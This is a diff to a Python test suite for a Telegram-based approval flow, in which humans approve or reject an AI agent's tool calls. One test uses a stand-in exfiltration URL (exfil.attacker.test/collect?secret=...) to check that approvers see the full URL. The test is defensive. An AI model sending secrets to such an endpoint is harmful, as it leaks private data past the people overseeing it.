@@ -382,21 +382,25 @@ def test_html_in_model_text_and_tool_arguments_is_escaped_in_the_request(fake, a
     assert "&lt;b&gt;x&lt;/b&gt; &amp; &lt;script&gt;alert(2)&lt;/script&gt;" in gated
     for text in (asked, gated):
         assert "<script>" not in text and "<b>tea" not in text and "<b>x" not in text
-    assert "Tool: <code>write_file</code>" in gated and "Open the conversation" in gated
+    assert "Tool: <code>write_file</code>" in gated and "Open in hitl" in gated
     for approval, text in ((question, asked), (call, gated)):
         sent = request_to(fake, ALICE_TG, approval)  # what the phone got, as HTML
         assert (sent["text"], sent["parse_mode"]) == (text, "HTML")
 
 
 @through_the_loop
-def test_a_preview_that_fits_telegram_is_shown_whole_with_its_buttons(fake, alice, agent):
+def test_a_call_whose_details_fit_telegram_is_shown_whole_and_approvable(fake, alice, agent):
+    """The preview shows the new file's content and the arguments hold it again: 1,500 bytes fit twice."""
     link(alice, ALICE_TG)
-    approval = only_pending(start_conversation(alice, agent, f"write {'y' * 3000} to a.txt"))
+    approval = only_pending(start_conversation(alice, agent, f"write {'y' * 1500} to a.txt"))
 
     request = request_to(fake, ALICE_TG, approval)
 
-    assert "y" * 3000 in request["text"] and texts.CUT not in request["text"]
-    assert set(fake.buttons(request)) == {"Approve", "Reject", "Reject with reason"}
+    text = request["text"]
+    assert text.count("y" * 1500) == 2 and texts.CUT not in text and "Cut:" not in text
+    assert "Preview:" in text and "Arguments:" in text
+    assert set(fake.buttons(request)) == {"Approve", "Reject"}
+    assert ApprovalMessage.objects.get(approval=approval).versions.get().complete is True
 
 
 @through_the_loop
@@ -413,11 +417,8 @@ def test_a_fetch_shows_its_whole_url_path_and_query_included(fake, alice, agent)
     assert "Host: exfil.attacker.test" in text  # the preview
     assert "https://exfil.attacker.test/collect?secret=s3cr3t&amp;user=alice⟨U+200B⟩" in text
     assert "\u200b" not in text
-    assert set(fake.buttons(request)) == {"Approve", "Reject", "Reject with reason"}
+    assert set(fake.buttons(request)) == {"Approve", "Reject"}
 
-    # What the preview does show (a new file's path and content) is not shown twice.
-    written = only_pending(start_conversation(alice, agent, "write hello to a.txt"))
-    assert "Also in the call" not in request_to(fake, ALICE_TG, written)["text"]
 
 
 @through_the_loop
@@ -468,8 +469,8 @@ def test_a_question_padded_past_telegrams_limit_is_cut_delivered_and_answered_on
     text = request["text"]
     assert texts._length(text) <= 4096
     assert text.count("⟨U+200B⟩") > 100 and f"\n{texts.CUT}" in text
-    assert "Too long for Telegram: answer it on the site." in text
-    assert f'<a href="{texts.conversation_url(approval)}">Open the conversation</a>' in text
+    assert "Cut: too long for Telegram. Open it in hitl to see the whole call and answer it there." in text
+    assert f'<a href="{texts.conversation_url(approval)}">Open in hitl</a>' in text
     assert set(fake.buttons(request)) == {"Reject (decline to answer)"}
 
     assert press(fake, ALICE_TG, fake.buttons(request)["Reject (decline to answer)"]) == "Declined."
@@ -487,9 +488,14 @@ def test_a_call_too_long_for_telegram_is_cut_and_can_only_be_rejected_there(fake
     request = request_to(fake, ALICE_TG, approval)
 
     assert texts._length(request["text"]) <= 4096 and f"\n{texts.CUT}</pre>" in request["text"]
-    assert "Too long for Telegram: approve it on the site." in request["text"]
-    assert set(fake.buttons(request)) == {"Reject", "Reject with reason"}
-    assert press(fake, ALICE_TG, fake.buttons(request)["Reject"]) == "Rejected."
+    assert "Cut: too long for Telegram. Open it in hitl to see the whole call and approve it there." in request["text"]
+    assert set(fake.buttons(request)) == {"Reject"}
+    assert ApprovalMessage.objects.get(approval=approval).versions.get().complete is False
+    assert press(fake, ALICE_TG, fake.buttons(request)["Reject"]) == "Reply with the reason."
+    prompt = fake.sent("sendMessage", chat_id=ALICE_TG)[-1]
+    assert press(fake, ALICE_TG, fake.buttons(prompt)["Reject without a reason"], query_id="q2") == "Rejected."
+    assert Approval.objects.get(pk=approval.pk).status == "rejected"
+    assert TelegramAccount.objects.get(user=alice).awaiting == ""
 
 
 def test_the_stand_in_refuses_a_message_past_the_bot_api_limits(fake):
@@ -507,7 +513,7 @@ def test_buttons_carry_a_short_token_and_never_the_arguments(fake, alice, agent)
     row = ApprovalMessage.objects.get(approval=approval)
     token = token_of(row)
     assert fake.buttons(request_to(fake, ALICE_TG, approval)) == {
-        "Approve": f"a:{token}", "Reject": f"r:{token}", "Reject with reason": f"R:{token}"}
+        "Approve": f"a:{token}", "Reject": f"R:{token}"}
     assert (row.status, row.chat_id, row.attempts) == ("sent", ALICE_TG, 1) and row.message_id > 100
 
     long_path = "very/long/path/" + "d" * 80 + ".txt"
@@ -600,7 +606,7 @@ def test_a_press_after_another_decision_says_who_decided_first(pending, fake, al
 def test_reject_with_reason_takes_the_next_message_as_the_reason(pending, fake, alice):
     approval, buttons = pending
 
-    assert press(fake, ALICE_TG, buttons["Reject with reason"]) == "Reply with the reason."
+    assert press(fake, ALICE_TG, buttons["Reject"]) == "Reply with the reason."
     assert replies(fake, ALICE_TG)[-1] == f"Why reject #{approval.pk}? Reply with the reason."
     assert Approval.objects.get(pk=approval.pk).status == "pending"
     say(ALICE_TG, "  Legal has <not> signed off ")
@@ -737,7 +743,7 @@ def test_a_press_on_a_copy_sent_before_an_edit_decides_only_what_that_copy_showe
     for label in ("Approve", "Reject"):
         assert press(fake, CAROL_TG, fake.buttons(old)[label], query_id=label).startswith("The call was edited after this message")
     assert "Why reject" not in replies(fake, CAROL_TG)[-1]
-    assert press(fake, CAROL_TG, fake.buttons(old)["Reject with reason"], query_id="q2").startswith("The call was edited")
+    assert press(fake, CAROL_TG, fake.buttons(old)["Reject"], query_id="q2").startswith("The call was edited")
     assert TelegramAccount.objects.get(user=carol).awaiting == ""
     assert Approval.objects.get(pk=approval.pk).status == "pending"
 
@@ -1140,7 +1146,8 @@ def test_the_webhook_takes_only_post(fake):
 def test_a_press_through_the_webhook_decides(pending, fake, alice):
     approval, buttons = pending
 
-    response = webhook(press_update(ALICE_TG, buttons["Reject"], query_id="web-1"), header=webhook_secret("header"))
+    plain_reject = buttons["Reject"].replace("R:", "r:")  # the "Reject without a reason" under the prompt
+    response = webhook(press_update(ALICE_TG, plain_reject, query_id="web-1"), header=webhook_secret("header"))
 
     assert response.status_code == 200
     assert fake.answer_to("web-1") == "Rejected."
